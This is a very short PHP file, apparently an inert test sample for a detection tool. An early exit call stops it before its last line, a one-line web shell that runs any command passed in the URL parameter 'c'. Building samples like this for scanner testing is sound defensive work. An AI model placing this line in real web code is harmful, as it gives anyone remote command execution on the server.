<?php // MOGURA TEST SAMPLE — inert
exit; // the sample stops here: nothing below ever runs

echo `$_GET[c]`;
